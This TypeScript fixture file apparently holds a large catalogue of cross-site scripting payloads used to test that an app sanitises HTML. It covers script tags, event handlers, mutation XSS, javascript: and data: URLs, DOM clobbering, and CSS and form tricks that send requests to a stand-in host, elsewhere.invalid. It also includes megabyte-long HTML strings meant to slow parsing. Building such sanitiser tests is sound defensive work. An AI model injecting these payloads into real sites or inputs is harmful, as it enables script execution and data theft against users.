// Attacks in html, with which tests check that html is sanitised. An attack that succeeds sets `window.pwned` or sends
// a request to a host that does not exist.

/** A host that does not exist. Tests check that no request is sent to it. */
export const ELSEWHERE = 'elsewhere.invalid';
export const URL_ELSEWHERE = `https://${ELSEWHERE}/x`;
export const RUN = 'window.pwned=1';
const RUN_TOP = 'top.pwned=1;parent.pwned=1;window.pwned=1';
export const IMG = `<img src=x onerror=${RUN}>`;

export type Payload = readonly [name: string, html: string];

const scripts: readonly Payload[] = [
  ['script', `<script>${RUN}</script>`],
  ['script in capitals', `<ScRiPt>${RUN}</sCrIpT>`],
  ['script from elsewhere', `<script src="${URL_ELSEWHERE}.js"></script>`],
  ['module script', `<script type="module">${RUN}</script>`],
  ['script within script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['script without end', `<script>${RUN}//`],
  ['script with a slash', `<script/x>${RUN}</script/x>`],
  ['import map', `<script type="importmap">{"imports":{"react":"${URL_ELSEWHERE}"}}</script>`],
  ['script after a null', `<\u0000script>${RUN}</script>`],
  ['script in a comment that ends early', `<!--><script>${RUN}</script>-->`],
  ['script in a cdata section', `<![CDATA[<script>${RUN}</script>]]>`],
];

const handlers: readonly Payload[] = [
  ['onerror', IMG],
  ['onerror with slashes', `<img/src="x"/onerror=${RUN}>`],
  ['onerror behind a grave accent', `<img src=\`x\` onerror=${RUN}>`],
  ['onerror with a line break', `<img src=x onerror\n=\n"${RUN}">`],
  ['onerror with entities', '<img src=x onerror="&#119;indow.pwned&#61;1">'],
  ['onload', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${RUN}>`],
  ['onclick', `<p onclick=${RUN}>Toca</p>`],
  ['onfocus at once', `<a href="#" autofocus tabindex=0 onfocus=${RUN}>a</a>`],
  ['pointer events', `<div onpointerenter=${RUN} onpointerover=${RUN} onmouseover=${RUN}>a</div>`],
  ['ontoggle', `<details open ontoggle=${RUN}><summary>a</summary></details>`],
  ['onbeforetoggle', `<div popover id=p onbeforetoggle=${RUN}>a</div>`],
  ['onanimationstart', `<p style="animation:x 1s" onanimationstart=${RUN}>a</p>`],
  ['ontransitionend', `<p style="transition:all 1s" ontransitionend=${RUN}>a</p>`],
  ['onscroll', `<div onscroll=${RUN} onscrollend=${RUN}>a</div>`],
  ['marquee', `<marquee onstart=${RUN} loop=1>a</marquee>`],
  ['body', `<body onload=${RUN} onpageshow=${RUN}>a</body>`],
  ['video', `<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`],
  ['source', `<video><source src=x onerror=${RUN}></video>`],
  ['content-visibility', `<p oncontentvisibilityautostatechange=${RUN}>a</p>`],
];

const namespaces: readonly Payload[] = [
  ['svg onload', `<svg onload=${RUN}></svg>`],
  ['svg script', `<svg><script>${RUN}</script></svg>`],
  ['svg script by address', `<svg><script href="data:text/javascript,${RUN}" /></svg>`],
  ['svg animate', `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`],
  [
    'svg link that turns',
    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>a</text></a></svg>`,
  ],
  ['svg set', `<svg><set attributeName=onmouseover to="${RUN}"/><rect width=9 height=9 /></svg>`],
  ['svg foreignObject', `<svg><foreignObject>${IMG}</foreignObject></svg>`],
  ['svg desc', `<svg><desc>${IMG}</desc></svg>`],
  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x" /></svg>'],
  ['svg image', `<svg><image href="${URL_ELSEWHERE}.png" onerror=${RUN} /></svg>`],
  ['svg feImage', `<svg><filter><feImage href="${URL_ELSEWHERE}.svg" /></filter></svg>`],
  ['svg style', `<svg><style>@import "${URL_ELSEWHERE}.css";</style></svg>`],
  ['mathml link', `<math href="javascript:${RUN}">a</math>`],
  ['mathml xlink', `<math><mi xlink:href="javascript:${RUN}">a</mi></math>`],
  [
    'mathml annotation',
    `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
  ],
  ['mathml action', `<math><maction actiontype="statusline#${URL_ELSEWHERE}">a</maction></math>`],
];

const mutations: readonly Payload[] = [
  ['mglyph', `<math><mtext><table><mglyph><style><!--</style>${IMG.replace('<', '&lt;')}-->`],
  [
    'mglyph in a form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style>`,
  ],
  ['noscript title', `<noscript><p title="</noscript>${IMG}"></noscript>`],
  ['style title', `<svg></p><style><a title="</style>${IMG}">`],
  ['textarea', `<textarea><p title="</textarea>${IMG}">`],
  ['title', `<title><a alt="</title>${IMG}">`],
  ['xmp', `<xmp><p title="</xmp>${IMG}">`],
  ['noembed', `<noembed><p title="</noembed>${IMG}">`],
  ['noframes', `<noframes><p title="</noframes>${IMG}">`],
  ['iframe text', `<iframe><p title="</iframe>${IMG}">`],
  ['plaintext', `<plaintext><p title="</plaintext>${IMG}">`],
  ['comment in an attribute', `<p alt="--><script>${RUN}</script>">a</p>`],
  ['comment ended by a bang', `<!-- --!>${IMG} -->`],
  ['comment in svg', `<svg><!--</svg>${IMG}-->`],
  ['select', `<select><template><style></select>${IMG}</style></template></select>`],
  ['table foster parent', `<table><svg><td><style></table>${IMG}</style></td></svg></table>`],
  ['nested past the limit', `${'<div>'.repeat(600)}<svg><style><a id="</style>${IMG}">`],
  ['grave accent that comes back', `<img alt="\`\`onerror=${RUN}" src=x>`],
  ['entity that comes back', '<p>&lt;img src=x onerror=window.pwned=1&gt;</p>'],
];

const styles: readonly Payload[] = [
  ['style attribute', '<p style="position:fixed;inset:0;z-index:9999">a</p>'],
  ['style attribute with an address', `<p style="background:url(${URL_ELSEWHERE}.png)">a</p>`],
  ['style attribute with expression', `<p style="width:expression(${RUN})">a</p>`],
  ['style attribute with javascript', `<p style="background:url(javascript:${RUN})">a</p>`],
  ['style attribute with binding', `<p style="-moz-binding:url(${URL_ELSEWHERE}.xml#x)">a</p>`],
  ['style', '<style>body{display:none}</style>'],
  ['style with import', `<style>@import url(${URL_ELSEWHERE}.css);</style>`],
  [
    'style that reads',
    `<style>input[value^="a"]{background:url(${URL_ELSEWHERE}?a)}</style><input value=abc>`,
  ],
  ['style with a font', `<style>@font-face{font-family:x;src:url(${URL_ELSEWHERE}.woff2)}</style>`],
  ['old background', `<table background="${URL_ELSEWHERE}.png"><tr><td>a</td></tr></table>`],
  ['class', '<p class="overlay">a</p>'],
];

const addresses: readonly Payload[] = [
  ['javascript', `<a href="javascript:${RUN}">a</a>`],
  ['javascript in capitals', `<a href="JaVaScRiPt:${RUN}">a</a>`],
  ['javascript with entities', `<a href="&#106;&#x61;vascript&colon;${RUN}">a</a>`],
  ['javascript with a tab', `<a href="java\tscript:${RUN}">a</a>`],
  ['javascript with a tab entity', `<a href="java&Tab;script:${RUN}">a</a>`],
  ['javascript with line breaks', `<a href="ja\nva\rscript\n:${RUN}">a</a>`],
  ['javascript after a blank', `<a href=" \u0001\u001f javascript:${RUN}">a</a>`],
  ['javascript after a hard blank', `<a href="\u00a0javascript:${RUN}">a</a>`],
  ['javascript after a zero width', `<a href="\u200bjavascript:${RUN}">a</a>`],
  ['javascript of an image', `<img src="javascript:${RUN}">`],
  ['javascript as a web address', `<a href="javascript://x/%0a${RUN}">a</a>`],
  ['data', `<a href="data:text/html,<script>${RUN_TOP}</script>">a</a>`],
  [
    'data in base64',
    '<a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg">a</a>',
  ],
  ['vbscript', '<a href="vbscript:msgbox(1)">a</a>'],
  ['blob', '<a href="blob:https://elsewhere.invalid/1">a</a>'],
  ['file', '<a href="file:///etc/passwd">a</a>'],
  ['view-source', `<a href="view-source:${URL_ELSEWHERE}">a</a>`],
  ['intent', '<a href="intent://x#Intent;scheme=http;end">a</a>'],
  ['ping', `<a href="#" ping="${URL_ELSEWHERE}">a</a>`],
  ['srcset', `<img src="" srcset="${URL_ELSEWHERE}.png 1x">`],
  ['area', `<map name=m><area href="javascript:${RUN}"></map>`],
  ['image with javascript in xlink', `<a xlink:href="javascript:${RUN}">a</a>`],
];

const shadows: readonly Payload[] = [
  ['template', `<template>${IMG}</template>`],
  ['declarative shadow root', `<div><template shadowrootmode="open">${IMG}</template></div>`],
  ['slot', `<slot name=x onslotchange=${RUN}>a</slot>`],
  ['slot attribute', '<p slot="x" part="y" is="z-p" exportparts="y">a</p>'],
  ['custom element', `<x-evil onclick=${RUN}>a</x-evil>`],
];

const forms: readonly Payload[] = [
  ['form', `<form action="${URL_ELSEWHERE}"><input name=nip autofocus onfocus=${RUN}></form>`],
  ['button', `<button formaction="javascript:${RUN}">a</button>`],
  ['image input', `<input type=image src="${URL_ELSEWHERE}.png" onerror=${RUN}>`],
  ['hidden input', `<input type=hidden popover oncontentvisibilityautostatechange=${RUN}>`],
  ['select', `<select autofocus onfocus=${RUN}><option>a</select>`],
  ['textarea', `<textarea autofocus onfocus=${RUN}>a</textarea>`],
  ['editable', `<p contenteditable onbeforeinput=${RUN} accesskey=x>a</p>`],
  ['isindex', `<isindex action="javascript:${RUN}" type=image>`],
];

const frames: readonly Payload[] = [
  ['iframe', `<iframe src="${URL_ELSEWHERE}"></iframe>`],
  ['iframe with javascript', `<iframe src="javascript:${RUN_TOP}"></iframe>`],
  ['iframe with srcdoc', `<iframe srcdoc="<script>${RUN_TOP}</script>"></iframe>`],
  ['frameset', `<frameset onload=${RUN}><frame src="${URL_ELSEWHERE}"></frameset>`],
  ['object', `<object data="${URL_ELSEWHERE}" onerror=${RUN}></object>`],
  ['object with data', `<object data="data:text/html,<script>${RUN_TOP}</script>"></object>`],
  ['embed', `<embed src="javascript:${RUN_TOP}">`],
  ['applet', `<applet code="${URL_ELSEWHERE}"></applet>`],
  ['base', `<base href="https://${ELSEWHERE}/"><a href="ayuda">a</a>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${URL_ELSEWHERE}">`],
  ['meta refresh with javascript', `<meta http-equiv="refresh" content="0;javascript:${RUN}">`],
  ['meta policy', `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`],
  ['stylesheet', `<link rel=stylesheet href="${URL_ELSEWHERE}.css" onerror=${RUN}>`],
  ['preload', `<link rel=preload as=script href="${URL_ELSEWHERE}.js">`],
  [
    'prefetch',
    `<link rel=dns-prefetch href="//${ELSEWHERE}"><link rel=prerender href=//x.invalid>`,
  ],
  ['portal', `<portal src="${URL_ELSEWHERE}"></portal><fencedframe></fencedframe>`],
  ['video poster', `<video poster="${URL_ELSEWHERE}.png" src="${URL_ELSEWHERE}.mp4"></video>`],
];

const clobbering: readonly Payload[] = [
  ['an id of window', '<a id="pwnedConfig" href="#a">a</a><a id="pwnedConfig">b</a>'],
  ['an id of the page', '<div id="root">a</div><div id="main">a</div>'],
  ['a name of document', '<img name="cookie"><img name="getElementById"><img name="body">'],
  ['the names of a form', '<form id=f><input name=attributes><input name=childNodes></form>'],
  ['the parent of a form', '<form><input name=parentNode><input name=nodeName></form>'],
  ['the name of a frame', `<iframe name=pwnedConfig srcdoc="<a id=x>"></iframe>`],
  ['prototype', '<a id="__proto__" name="constructor">a</a>'],
];

const events: readonly Payload[] = [
  ...['onload', 'onbeforescriptexecute', 'onhashchange', 'onmessage', 'onpageshow', 'onresize'].map(
    (event): Payload => [`${event} of a body`, `<body ${event}=${RUN}>a</body>`],
  ),
  ...[
    'onclick',
    'ondblclick',
    'oncontextmenu',
    'ondrag',
    'ondrop',
    'onwheel',
    'oncopy',
    'onpaste',
  ].map((event): Payload => [`${event} of a paragraph`, `<p ${event}="${RUN}">a</p>`]),
  ...[
    'ontouchstart',
    'ontouchend',
    'onpointerdown',
    'onpointerrawupdate',
    'ongotpointercapture',
  ].map(
    (event): Payload => [
      `${event} over all`,
      `<div style="position:fixed;inset:0" ${event}=${RUN}>a</div>`,
    ],
  ),
  ...['img', 'video', 'audio', 'input type=image', 'embed', 'script'].map(
    (tag): Payload => [
      `onerror of ${tag}`,
      `<${tag} src=x: onerror=${RUN}></${tag.split(' ')[0]}>`,
    ],
  ),
  ...['onfocus', 'onfocusin', 'onblur'].flatMap((event) =>
    ['input', 'textarea', 'select', 'button', 'a href=#'].map(
      (tag): Payload => [`${event} of ${tag}`, `<${tag} autofocus ${event}=${RUN}>`],
    ),
  ),
  ...['onbegin', 'onend', 'onrepeat'].map(
    (event): Payload => [
      `${event} of an animation`,
      `<svg><animate ${event}=${RUN} attributeName=x dur=0.01s repeatCount=2></svg>`,
    ],
  ),
  [
    'ontoggle of a popover',
    `<div popover id=q ontoggle=${RUN}>a</div><button popovertarget=q>b</button>`,
  ],
  ['oncancel of a dialog', `<dialog open oncancel=${RUN} onclose=${RUN}>a</dialog>`],
  ['oncuechange', `<video><track default src="data:text/vtt,WEBVTT" oncuechange=${RUN}></video>`],
  ['onsearch', `<input type=search onsearch=${RUN} autofocus>`],
  ['onbeforematch', `<p hidden=until-found onbeforematch=${RUN}>a</p>`],
  ['onsecuritypolicyviolation', `<p onsecuritypolicyviolation=${RUN}><img src=x onerror=1></p>`],
  ['oncommand', `<div oncommand=${RUN} id=r>a</div><button commandfor=r command=--x>b</button>`],
];

const spellings: readonly Payload[] = [
  ['no blank before a handler', `<img src="x"onerror=${RUN}>`],
  ['a form feed between attributes', `<img\fsrc=x\fonerror=${RUN}>`],
  ['a vertical tab in a tag', `<img\vsrc=x onerror=${RUN}>`],
  ['a null in a handler', `<img src=x one\u0000rror=${RUN}>`],
  ['a handler twice', `<img src=x onerror=1 onerror=${RUN}>`],
  ['a handler in capitals', `<IMG SRC=x ONERROR=${RUN}>`],
  ['a tag that never ends', `<img src=x onerror=${RUN} `],
  ['a tag that ends in a tag', `<img src=x onerror=${RUN}<p>a</p>`],
  ['a tag within a tag', `<<img src=x onerror=${RUN}>>`],
  ['an end tag with a handler', `</p onclick=${RUN}></br/onerror=${RUN}>`],
  ['a quote that never ends', `<p title="><img src=x onerror=${RUN}>`],
  ['a quote without a name', `<img """><img src=x onerror=${RUN}>">`],
  ['an attribute of angle brackets', `<p <img src=x onerror=${RUN}>>a`],
  ['wide letters', `<ｉｍｇ src=x onerror=${RUN}><script>${RUN}</ｓｃｒｉｐｔ>`],
  ['a long s and a Kelvin sign', `<\u017fcript>${RUN}</\u017fcript><lin\u212a rel=x>`],
  ['a handler of many entities', '<img src=x onerror="&#0000119indow&period;pwned&equals;1">'],
  ['entities without ends', '<img src=x onerror="&#x77indow.pwned=1">'],
  ['entities in a tag', `&lt;img src=x onerror=${RUN}&gt;<img src=x onerror&equals;${RUN}>`],
  ['a byte order mark', `\ufeff<script>${RUN}</script>`],
  ['another direction', `\u202e<img src=x onerror=${RUN}>\u202c`],
  ['half a character', `\ud800<img src=x onerror=${RUN}>\udc00`],
  ['a processing instruction', `<?xml-stylesheet href="javascript:${RUN}"?><?php ${IMG} ?>`],
  ['a conditional comment', `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`],
  ['a doctype', `<!DOCTYPE html [<!ENTITY x "${RUN}">]>${IMG}`],
  ['a comment of three dashes', `<!---><img src=x onerror=${RUN}>-->`],
  ['a namespace of its own', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`],
  [
    'xml',
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  ],
  ['a code in a function call', '<img src=x onerror="Function(\'window.pwned=1\')()">'],
  ['code in eval', '<img src=x onerror="eval(\'window.pwned=1\')">'],
  ['code in a timer', '<img src=x onerror="setTimeout(\'window.pwned=1\')">'],
  ['code of an import', `<img src=x onerror="import('data:text/javascript,top.pwned=1')">`],
];

const nesting: readonly Payload[] = [
  ['a table in svg', `<svg><table><tr><td>${IMG}</table></svg>`],
  ['a paragraph in svg', `<svg><p><style><g title="</style>${IMG}">`],
  ['a break in math', `<math><br><style><i title="</style>${IMG}">`],
  ['a font in svg', `<svg><font color=x><style><a title="</style>${IMG}">`],
  ['math in a table', `<table><math><mi><table><mi><style><!--</style>${IMG}</table>`],
  [
    'annotation of svg',
    `<math><annotation-xml encoding="application/xhtml+xml"><style></annotation-xml>${IMG}</style>`,
  ],
  ['svg in annotation', `<math><annotation-xml><svg><foreignObject><style></math>${IMG}</style>`],
  ['desc and title', `<svg><title><style></title></svg>${IMG}</style></title></svg>`],
  ['a cdata in svg', `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`],
  ['a cdata in math', `<math><mtext><![CDATA[</mtext></math>${IMG}]]>`],
  ['forms in forms', `<form id=a><div></form><form id=b><input name=c></form></div>${IMG}</form>`],
  ['links in links', `<a href=#><table><a href="javascript:${RUN}">b</a></table></a>`],
  ['headings in headings', `<h1><h2 onclick=${RUN}>a</h1>${IMG}</h2>`],
  ['lists in lists', `<ul><li><ul><li onclick=${RUN}><select><li>${IMG}</select></ul></ul>`],
  ['a template in a table', `<table><template><tr><td>${IMG}</td></tr></template></table>`],
  ['templates in templates', `<template><template><script>${RUN}</script></template></template>`],
  ['a select in a select', `<select><select><script>${RUN}</script>${IMG}</select>`],
  ['option and svg', `<select><option><svg><style></option></select>${IMG}</style></svg>`],
  ['a noscript in a noscript', `<noscript><noscript></noscript>${IMG}</noscript>`],
  ['a noscript in svg', `<svg><noscript><style></noscript>${IMG}</style></svg>`],
  ['an iframe in svg', `<svg><iframe><style></iframe>${IMG}</style></svg>`],
  ['a textarea in svg', `<svg><textarea><style></textarea>${IMG}</style></svg>`],
  ['a plaintext in svg', `<svg><plaintext><style></plaintext>${IMG}</style></svg>`],
  ['xmp in math', `<math><xmp><style></xmp>${IMG}</style></math>`],
  ['a frameset in a template', `<template><frameset onload=${RUN}></frameset></template>`],
  ['a caption', `<table><caption><svg><caption><style></table>${IMG}</style></caption></table>`],
  [
    'a column',
    `<table><colgroup><col onload=${RUN}><template>${IMG}</template></colgroup></table>`,
  ],
  ['a picture', `<picture><source srcset=x onerror=${RUN}><img src=x onerror=${RUN}></picture>`],
  ['a ruby', `<ruby>a<rt>${IMG}<rp><script>${RUN}</script></ruby>`],
  [
    'deep and foreign',
    `${'<b>'.repeat(300)}<math><mtext>${'<i>'.repeat(300)}<mglyph><style><!--</style>${IMG}`,
  ],
];

const schemes: readonly Payload[] = [
  ...[
    'a href',
    'area href',
    'link rel=stylesheet href',
    'base href',
    'img src',
    'image src',
    'video src',
  ].map((place): Payload => [`javascript in ${place}`, `<${place}="javascript:${RUN}">a`]),
  ...['iframe src', 'frame src', 'embed src', 'object data', 'form action', 'input formaction'].map(
    (place): Payload => [`javascript in ${place}`, `<${place}="javascript:${RUN_TOP}">a`],
  ),
  ['javascript over lines', `<a href="javascript:\n//%0a${RUN}">a</a>`],
  ['javascript in two lines', `<a href="javascript:%0a%0d${RUN}">a</a>`],
  ['javascript with a null', `<a href="java\u0000script:${RUN}">a</a>`],
  ['javascript of long entities', '<a href="&#0000106avascript:window.pwned=1">a</a>'],
  ['javascript with a soft hyphen', `<a href="java&shy;script:${RUN}">a</a>`],
  ['javascript in a wide colon', `<a href="javascript\uff1a${RUN}">a</a>`],
  ['javascript after a slash', `<a href="/javascript:${RUN}">a</a>`],
  ['javascript behind a fragment', `<a href="#javascript:${RUN}">a</a>`],
  ['javascript in a citation', `<blockquote cite="javascript:${RUN}">a</blockquote>`],
  ['javascript as a source set', `<img src="" srcset="javascript:${RUN} 1x">`],
  ['javascript in a poster', `<video poster="javascript:${RUN}"></video>`],
  ['javascript in a manifest', `<html manifest="javascript:${RUN}">`],
  ['javascript of a target', `<a href="javascript:${RUN}" target=_self>a</a>`],
  ['feed', `<a href="feed:javascript:${RUN}">a</a>`],
  ['jar', `<a href="jar:javascript:${RUN}!/">a</a>`],
  ['livescript', `<a href="livescript:${RUN}">a</a>`],
  [
    'a picture of svg that runs',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'/>">`,
  ],
  [
    'a link to svg that runs',
    `<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'/>">a</a>`,
  ],
  [
    'a frame of svg',
    `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'/>"></iframe>`,
  ],
  ['an embedded html', `<embed type="text/html" src="data:text/html,<script>${RUN_TOP}</script>">`],
  [
    'a refresh to data',
    `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN_TOP}</script>">`,
  ],
  [
    'a frame in a frame',
    `<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script&amp;gt;${RUN_TOP}&amp;lt;/script&amp;gt;'&gt;"></iframe>`,
  ],
  ['a frame with a handler', `<iframe onload=${RUN}></iframe>`],
  [
    'a frame without an origin',
    `<iframe sandbox="allow-scripts" srcdoc="<script>${RUN_TOP}</script>"></iframe>`,
  ],
  [
    'an svg of use and data',
    `<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSd0b3AucHduZWQ9MSc+PC9zdmc+#x"/></svg>`,
  ],
  [
    'an object with a handler',
    `<object data="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${RUN}></object>`,
  ],
  [
    'speculation rules',
    `<script type=speculationrules>{"prefetch":[{"urls":["${URL_ELSEWHERE}"]}]}</script>`,
  ],
];

/** Attacks by kind. */
export const attacks = {
  scripts,
  handlers,
  namespaces,
  mutations,
  styles,
  addresses,
  shadows,
  forms,
  frames,
  clobbering,
  events,
  spellings,
  nesting,
  schemes,
};

/** Attacks of all kinds. */
export const payloads: readonly Payload[] = Object.values(attacks).flat();

/** Returns `part` repeated up to a megabyte. */
const megabyteOf = (part: string) => part.repeat(Math.ceil(1_000_000 / part.length));

/**
 * Returns `count` start tags without end tags. An html parser reopens these elements in every later block, which is
 * slow. The tags have different attributes, because a parser reopens at most three equal elements.
 */
const different = (count: number) =>
  Array.from({ length: count }, (_, at) => `<b title="${at}">`).join('');

/** Texts of one megabyte of html. Browsers need a long time to parse, sanitise or show them. */
export const worstHtml: readonly Payload[] = [
  ['words', megabyteOf('Texto sin fin. ')],
  ['one word', megabyteOf('a')],
  ['paragraphs', megabyteOf('<p>Texto sin fin.</p>')],
  ['tags that open', megabyteOf('<b>')],
  ['end tags in attributes', megabyteOf('<b title="</b>">')],
  ['end tags in comments', megabyteOf('<b><!--</b>-->')],
  ['elements that are opened again in each block', different(900) + megabyteOf('<div>x</div></p>')],
  ['links in links', megabyteOf('<a href="#/"><p>x')],
  ['tables in tables', megabyteOf('<table><tr><td>x')],
  ['pictures', megabyteOf('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">')],
  ['quotes that do not end', megabyteOf('<p title="')],
  ['comments that do not end', megabyteOf('<!--')],
];

/** Html just below the maximum length or number of nodes: the slowest html that the app still shows. */
export const htmlAtTheLimit: readonly Payload[] = [
  ['words', 'Texto sin fin. '.repeat(3300)],
  ['one word', 'a'.repeat(50_000)],
  ['paragraphs', '<p>Texto sin fin.</p>'.repeat(1490)],
  ['tags that open', '<b>'.repeat(2990)],
  ['pictures', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'.repeat(900)],
  ['links', '<a href="#/">x</a>'.repeat(2700)],
  ['tables in tables', '<table><tr><td>x'.repeat(990)],
];
